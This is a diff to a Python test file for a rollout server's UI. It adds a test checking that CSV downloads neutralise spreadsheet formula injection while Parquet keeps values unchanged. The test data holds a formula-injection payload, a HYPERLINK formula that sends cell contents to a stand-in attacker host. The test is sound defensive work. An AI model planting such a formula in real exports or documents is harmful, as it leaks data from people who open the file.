@@ -30,10 +30,12 @@ def packed(values: list[int] | list[float], dtype: str) -> bytes:
     return np.asarray(values, dtype=dtype).tobytes()
 
 
-def emit_rollout(server, *, rollout_id: str, group_id: str, reward: float) -> None:  # noqa: ANN001
+def emit_rollout(  # noqa: ANN001
+    server, *, rollout_id: str, group_id: str, reward: float, service_name: str = "ui-test-agent"
+) -> None:
     """A two-call rollout recorded as the gateway records one: exact token ids and logprobs on each call
     span, the second call's prompt the first call's prompt, answer and tool result; a grader's reward."""
-    provider = TracerProvider(resource=Resource.create({"service.name": "ui-test-agent"}))
+    provider = TracerProvider(resource=Resource.create({"service.name": service_name}))
     exporter = OTLPSpanExporter(endpoint=f"{server.http_url}/v1/traces", headers=server.auth)
     provider.add_span_processor(SimpleSpanProcessor(exporter))
     identity = {
@@ -162,6 +164,28 @@ def test_the_rollouts_table_filters_and_downloads(otel_rl_server, group):
     assert sorted(pl.read_csv(io.BytesIO(csv.content))["rollout_id"]) == sorted([group["good"], group["bad"]])
     parquet = get(otel_rl_server, "/ui/api/rollouts", group=group["group"], format="parquet")
     assert pl.read_parquet(io.BytesIO(parquet.content)).height == 2
+
+
+def test_a_rollout_naming_itself_with_a_formula_downloads_as_text_in_csv_and_as_is_in_parquet(otel_rl_server):
+    formula = '=HYPERLINK("http://attacker.example/?d="&A1,"open")'
+    tag = uuid.uuid4().hex[:8]
+    emit_rollout(
+        otel_rl_server, rollout_id=f"-1+{tag}", group_id=f"@g-{tag}", reward=1.0, service_name=formula
+    )
+    deadline = time.monotonic() + 20
+    while not get(otel_rl_server, "/ui/api/rollouts", group=f"@g-{tag}").json()["rows"]:
+        assert time.monotonic() < deadline, "the rollout did not reach the store"
+        time.sleep(0.1)
+
+    csv = get(otel_rl_server, "/ui/api/rollouts", group=f"@g-{tag}", format="csv")
+    parquet = get(otel_rl_server, "/ui/api/rollouts", group=f"@g-{tag}", format="parquet")
+
+    (row,) = pl.read_csv(io.BytesIO(csv.content), infer_schema=False).to_dicts()
+    assert row["service_name"] == "'" + formula and row["rollout_id"] == f"'-1+{tag}"
+    assert row["group_id"] == f"'@g-{tag}" and row["outcome_reward"] == "1.0"  # numbers stay numbers
+    assert not any(line.startswith(("=", "+", "-", "@")) for line in csv.text.splitlines())
+    (kept,) = pl.read_parquet(io.BytesIO(parquet.content)).to_dicts()
+    assert kept["service_name"] == formula and kept["rollout_id"] == f"-1+{tag}"
 
 
 def test_a_rollout_shows_its_calls_messages_usage_and_reward(otel_rl_server, group):
